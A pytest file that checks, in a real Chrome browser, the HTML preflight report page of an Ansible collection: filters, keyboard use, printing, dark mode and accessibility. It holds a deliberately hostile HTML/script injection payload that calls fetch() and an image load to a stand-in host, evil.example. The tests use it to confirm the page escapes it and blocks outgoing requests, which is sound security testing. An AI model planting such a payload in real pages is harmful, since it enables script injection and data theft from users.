# SPDX-License-Identifier: GPL-3.0-or-later
"""The preflight's HTML page in a real browser: filter, evidence by mouse and by keyboard, print, and no request.

Pictures and the print are left in build/browser, to be looked at.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.weaveworks.wge.plugins.module_utils._engine.checks.registry import CHECKS
from ansible_collections.weaveworks.wge.plugins.module_utils._engine.preflight_report.document import build
from ansible_collections.weaveworks.wge.plugins.module_utils._engine.preflight_report.page import page
from browser.chrome import Chrome, program

PICTURES = Path(__file__).resolve().parents[2] / "build" / "browser"
HOSTILE = (
    "</script><script>window.planted=1;fetch('https://evil.example/x')</script>"
    "<img src='https://evil.example/y' onerror='window.planted=2'><style>body{display:none}</style>"
)
ROLE = 'Have an administrator apply this:\nkind: Role\nrules:\n  - apiGroups: [""]\n    resources: ["services"]\n    verbs: ["patch"]'

BLOCKED = ["prod-00", "prod-03", "prod-06", "prod-09", "prod-10", "prod-11"]


def results() -> dict[str, dict[str, Any]]:
    """Twelve clusters: a third is blocked, one does not answer, two are one."""
    found: dict[str, dict[str, Any]] = {}
    for number in range(12):
        checks = [finding(check, number, place) for place, check in enumerate(CHECKS)]
        bad = any(row["status"] == "fail" and row["severity"] == "block" for row in checks)
        soft = any(row["status"] in ("warn", "fail") for row in checks)
        cluster = {"uid": f"uid-{min(number, 10)}", "api": f"https://c{number}.example.com:6443", "version": "v1.33.1"}
        verdict = "block" if bad else "warn" if soft else "pass"
        found[f"prod-{number:02}"] = {"verdict": verdict, "checks": checks, "cluster": cluster, "message": "It is blocked." if bad else ""}
    found["prod-05"] = {
        "failed": True,
        "verdict": "unreachable",
        "message": "The API server does not answer.",
        "next_step": "Repair the VPN.",
    }
    return found


def finding(check: Any, number: int, place: int) -> dict[str, Any]:
    about = {"id": check.id, "group": check.group, "title": check.title, "severity": check.severity, "waiver": {}}
    said = {"status": "pass", "evidence": f"Seen on cluster {number}: all is well with {check.title}.", "remedy": ""}
    if number % 3 == 0 and check.id == "PE-02":
        said = {"status": "fail", "evidence": "2 of 40 rights are missing.", "remedy": ROLE}
    elif number % 4 == 1 and check.id == "NE-06":
        said = {"status": "warn", "evidence": HOSTILE, "remedy": "Give WGE's pods the same rules."}
    elif (number + place) % 17 == 0:
        said = {"status": "skip", "evidence": "Nothing of the kind is here.", "remedy": ""}
    return {**about, **said}


@pytest.fixture(scope="module")
def chrome(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
    program()  # without a browser one sentence, not a stack of errors
    PICTURES.mkdir(parents=True, exist_ok=True)
    with Chrome(tmp_path_factory.mktemp("chromium") / "profile") as browser:
        yield browser


@pytest.fixture(scope="module")
def url() -> str:
    PICTURES.mkdir(parents=True, exist_ok=True)
    path = PICTURES / "preflight.html"
    path.write_text(page(build(results(), "20261123T101500Z-5f3a1c", "2026-11-23T10:15:00+00:00")))
    return path.as_uri()


@pytest.fixture
def opened(chrome: Chrome, url: str) -> Chrome:
    chrome.open("about:blank")
    chrome.requests.clear()
    chrome.complaints.clear()
    chrome.open(url)
    return chrome


def rows(chrome: Chrome) -> list[str]:
    """The clusters that are seen."""
    found = chrome.value(
        "[...document.querySelectorAll('#matrix tbody tr')].filter(r => r.offsetParent).map(r => r.querySelector('th').innerText)"
    )
    return sorted(text.split()[0] for text in found)


def columns(chrome: Chrome) -> list[str]:
    found = chrome.value("[...document.querySelectorAll('#matrix .ids th')].filter(h => h.offsetParent).slice(1).map(h => h.textContent)")
    return [str(text) for text in found]


def dialog(chrome: Chrome) -> str:
    return str(chrome.value("document.getElementById('detail').open ? document.getElementById('detail').innerText : ''"))


def test_the_page_asks_for_itself_and_for_nothing_else_and_its_console_is_silent(opened: Chrome, url: str) -> None:
    opened.picture(PICTURES / "light.png")
    assert opened.requests == [url]
    assert opened.complaints == []


def test_what_a_cluster_says_is_not_run(opened: Chrome) -> None:
    opened.value("document.querySelector('button.warn').click()")
    assert "window.planted=1" in dialog(opened)
    assert opened.value("typeof window.planted") == "undefined"
    assert opened.value("document.images.length") == 0
    assert opened.value("getComputedStyle(document.body).display") == "block"
    assert [request for request in opened.requests if "evil" in request] == []


def test_a_script_that_got_in_could_not_ask_for_anything(opened: Chrome) -> None:
    reason = opened.value("fetch('https://evil.example/x').then(() => 'sent', error => String(error))")
    assert "Failed to fetch" in reason
    assert any("Content Security Policy" in text or "violates" in text for text in opened.complaints)


def test_without_a_filter_all_clusters_and_checks_are_seen(opened: Chrome) -> None:
    assert len(rows(opened)) == 12
    assert sorted(columns(opened)) == sorted(check.id for check in CHECKS)
    assert opened.value("document.getElementById('count').textContent").endswith("12 of 12 clusters")


def test_typed_words_filter_and_the_address_remembers_them(opened: Chrome) -> None:
    opened.click("#text")
    opened.write("rights missing")
    assert rows(opened) == ["prod-00", "prod-03", "prod-06", "prod-09"]
    assert columns(opened) == ["PE-02"]
    assert opened.value("location.hash") == "#text=rights+missing"
    opened.picture(PICTURES / "filtered.png")


def test_a_state_and_a_group_filter_and_everything_comes_back(opened: Chrome) -> None:
    for state in ("error", "warn", "waived", "skip", "pass"):
        opened.click(f"input[value={state}]")
    assert rows(opened) == BLOCKED
    opened.click("#everything")
    assert len(rows(opened)) == 12
    opened.value("document.getElementById('group').value = 'network'")
    opened.value("document.getElementById('group').dispatchEvent(new Event('input', {bubbles: true}))")
    assert set(columns(opened)) == {check.id for check in CHECKS if check.group == "network"}
    assert "prod-05" not in rows(opened)


def test_one_button_leaves_only_what_is_not_green(opened: Chrome) -> None:
    opened.click("#problems")
    assert columns(opened) == ["PE-02", "NE-06"]
    assert rows(opened) == sorted([*BLOCKED, "prod-01", "prod-05"])
    opened.picture(PICTURES / "problems.png")


def test_a_link_leads_to_the_filter_and_to_the_evidence(chrome: Chrome, url: str) -> None:
    chrome.open("about:blank")
    chrome.open(f"{url}#state=block&open=prod-03,PE-02")
    assert rows(chrome) == BLOCKED
    assert "2 of 40 rights are missing." in dialog(chrome)
    assert 'kind: Role\nrules:\n  - apiGroups: [""]' in dialog(chrome)


def test_a_cluster_that_does_not_answer_is_found_by_what_is_said_of_it(chrome: Chrome, url: str) -> None:
    chrome.open("about:blank")
    chrome.open(f"{url}#text=does+not+answer&state=error")
    assert rows(chrome) == ["prod-05"]


def test_a_filter_that_nothing_matches_says_so(chrome: Chrome, url: str) -> None:
    chrome.open("about:blank")
    chrome.open(f"{url}#text=nowhere+to+be+found")
    assert rows(chrome) == []
    assert chrome.value("document.getElementById('nothing').offsetParent !== null")


def test_a_click_shows_the_evidence_of_a_check_that_passed(opened: Chrome) -> None:
    opened.click("#matrix button.pass")
    opened.picture(PICTURES / "evidence.png")
    assert "all is well with" in dialog(opened) and "What to do" not in dialog(opened)
    opened.click("#detail-close")
    assert dialog(opened) == ""


def test_the_keyboard_leads_through_the_table_and_opens_and_closes(opened: Chrome) -> None:
    label = "document.activeElement.getAttribute('aria-label')"
    opened.value("document.querySelector('#matrix button').focus()")
    first = opened.value(label)
    opened.press("ArrowRight")
    assert opened.value(label) != first
    opened.press("ArrowDown")
    here = opened.value(label)
    opened.press("Enter")
    assert here.split()[1] in dialog(opened)
    opened.press("Escape")
    assert dialog(opened) == ""
    assert opened.value(label) == here
    assert opened.value("document.querySelectorAll('#matrix button[tabindex=\"0\"]').length") == 1


def test_hosts_that_are_one_cluster_say_so_in_their_rows(opened: Chrome) -> None:
    text = opened.value("document.getElementById('matrix').innerText")
    assert text.count("in the inventory twice") == 2


def test_a_reader_in_the_dark_gets_a_dark_page(opened: Chrome) -> None:
    colour = "getComputedStyle(document.body).backgroundColor"
    opened.prefer("dark")
    dark = opened.value(colour)
    opened.picture(PICTURES / "dark.png")
    opened.prefer("light")
    assert (dark, opened.value(colour)) == ("rgb(20, 23, 29)", "rgb(255, 255, 255)")


def test_it_prints(opened: Chrome) -> None:
    opened.print(PICTURES / "preflight.pdf")
    assert (PICTURES / "preflight.pdf").stat().st_size > 20_000


def test_every_control_has_a_name_for_a_screen_reader(opened: Chrome) -> None:
    nameless = opened.value(
        "JSON.stringify([...document.querySelectorAll('button, input, select, a')]"
        ".filter(e => !(e.getAttribute('aria-label') || e.innerText || (e.labels && e.labels.length))).map(e => e.outerHTML))"
    )
    assert json.loads(nameless) == []
